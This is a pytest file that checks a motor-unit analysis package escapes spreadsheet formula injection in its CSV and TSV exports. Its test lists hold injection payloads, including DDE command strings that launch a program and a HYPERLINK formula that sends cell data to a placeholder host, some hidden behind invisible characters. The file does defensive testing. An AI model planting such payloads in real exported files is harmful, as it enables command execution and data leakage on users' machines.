"""No label becomes a formula in a spreadsheet, and each comes back as it was."""

from __future__ import annotations

import csv
from dataclasses import replace
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import renshaw as rs
from renshaw.core.cells import plain_cell, plain_table, safe_cell, safe_table
from renshaw.core.files import write_csv
from renshaw.core.together import together
from renshaw.io.bids.sheet import rows_of, store_table

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)",
    '=HYPERLINK("http://x/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n1",
    "＝1+1",
    '"=1+1"',
    ' "@SUM(1)"',
    # Behind what nobody sees.
    "\u200b=1+1",
    "\xa0=1+1",
    "\ufeff@SUM(1)",
    "\x0b=1+1",
    "\u202e\x00 '＝1",
]
# A spreadsheet with other separators makes two cells of each.
INNER = [
    "ramp;=cmd|' /C calc'!A0",
    "ramp, =1",
    "ramp|@SUM(1)",
    "ramp\t=1",
    "ramp\n=1",
    'ramp;"=1"',
    "ramp;\u200b=1",
    "ramp,\xa0@SUM(1)",
    "ramp;-2+3+cmd|' /C calc'!A0",
    "ramp;+HYPERLINK(1)",
    ";=1;'=1;''=1",
    ";;\t=1",
]
USUAL = ["ramp, -5 mm", "10 Hz; +3", "a; b - c", "x=1, y=2", "3, -1.5", "up;-down"]
TEXTS = [
    *FORMULAS,
    *INNER,
    *USUAL,
    "ramp",
    "'s-Hertogenbosch",
    "'=1",
    "''=1",
    "'''",
    "-",
    "--",
    "=",
    "",
    "1",
    "-1.5",
]


def rows_in(path: Path) -> list[list[str]]:
    with path.open(newline="") as stream:
        return list(csv.reader(stream))


def begins_a_formula(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return len(cell.strip()) > 1 and cell[0] in "=+-@\t\r\n＝＋－＠"
    return cell[0] in "\t\r\n"


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_a_text(text):
    assert safe_cell(text).startswith("'")
    shown = text.translate({0: "␀", 11: "␋", 13: "␍"})
    assert safe_cell(text).endswith(shown.strip())


@pytest.mark.parametrize("value", ["-1.5", "+3", "1e-3", "-inf", "ramp", "-", -1.5, None, 3, True])
def test_numbers_and_usual_texts_stay(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", INNER)
@pytest.mark.parametrize("separator", [";", ",", "|", "\t", "\n"])
def test_no_cell_that_another_separator_makes_begins_a_formula(text, separator):
    cells = safe_cell(text).split(separator)
    assert not any(begins_a_formula(cell.strip('" \t\n')) for cell in cells), cells


@pytest.mark.parametrize("text", USUAL)
def test_usual_words_stay(text):
    assert safe_cell(text) == text


@given(st.one_of(st.sampled_from(TEXTS), st.text("=+-@'\t\r\n1.ea;,|(\" ", max_size=8)))
def test_every_text_comes_back_and_is_no_formula(text):
    assert plain_cell(safe_cell(text)) == text
    assert not begins_a_formula(safe_cell(text)) or not text


def test_tables_come_back():
    table = pd.DataFrame({"=a": TEXTS, "n": range(len(TEXTS)), "x": np.linspace(-1, 1, len(TEXTS))})
    safe = safe_table(table)
    assert not any(map(begins_a_formula, filter(None, [*safe.columns, *safe["'=a"]])))
    pd.testing.assert_frame_equal(plain_table(safe), table)
    pd.testing.assert_series_equal(safe["x"], table["x"])


def test_files_for_people_hold_no_formula(tmp_path):
    path = write_csv(
        tmp_path / "a.csv", pd.DataFrame({"label": FORMULAS, "value": [-1.0] * len(FORMULAS)})
    )
    rows = rows_in(path)[1:]
    assert all(row[0].startswith("'") and row[1] == "-1.0" for row in rows)


def recording() -> rs.Recording:
    trains = [np.arange(1.0, 9.0, 0.1) + 0.01 * at for at in range(len(FORMULAS))]
    units = rs.MotorUnits(trains, (0.0, 10.0), labels=FORMULAS)
    return rs.Recording(units, name="ramp")


@pytest.mark.parametrize("ending", [".csv", ".tsv"])
def test_labels_of_units_come_back(ending, tmp_path):
    known = recording()
    labels = [label for label in FORMULAS if label == label.strip()]
    chosen = [at for at, label in enumerate(FORMULAS) if label in labels]
    units = replace(
        known.units,
        times_s=tuple(known.units.times_s[at] for at in chosen),
        labels=tuple(labels),
        flags=(),
        muscles=(),
    )
    path = replace(known, units=units).save(tmp_path / f"a{ending}")
    cells = [cell for line in path.read_text().splitlines() for cell in next(csv.reader([line]))]
    assert "'@SUM(1+9)" in path.read_text()
    assert not any(map(begins_a_formula, filter(None, cells))) or ending == ".tsv"
    assert sorted(rs.read(path).units.labels) == sorted(labels)


def test_estimates_come_back(tmp_path):
    estimates = rs.estimate(replace(recording(), name="=1+cmd"))
    path = estimates.save(tmp_path / "estimates.csv")
    again = rs.files.read_estimates(path)
    assert rows_in(path)
    assert not any(begins_a_formula(cell) for row in rows_in(path) for cell in row if cell)
    pd.testing.assert_frame_equal(again.to_table(), estimates.to_table())


def test_columns_of_estimates_begin_no_formula(tmp_path):
    estimates = rs.estimate(recording())
    table = estimates.to_table().assign(**{"=cmd|' /C calc'!A0": 1.0})
    received = rs.Estimates.from_table(table)
    path = received.save(tmp_path / "estimates.csv")
    assert not any(begins_a_formula(cell) for cell in rows_in(path)[0])
    assert "=cmd|' /C calc'!A0" in rs.files.read_estimates(path).to_table().columns


def test_sheets_of_a_data_set_come_back(tmp_path):
    texts = [text for text in FORMULAS if text == text.strip()]
    with together(tmp_path / "a.unfinished", words="being written") as files:
        store_table(files, tmp_path / "a.tsv", ["name"], [[text] for text in texts])
    assert "\n'=HYPERLINK" in (tmp_path / "a.tsv").read_text()
    assert [row["name"] for row in rows_of(tmp_path / "a.tsv")] == texts
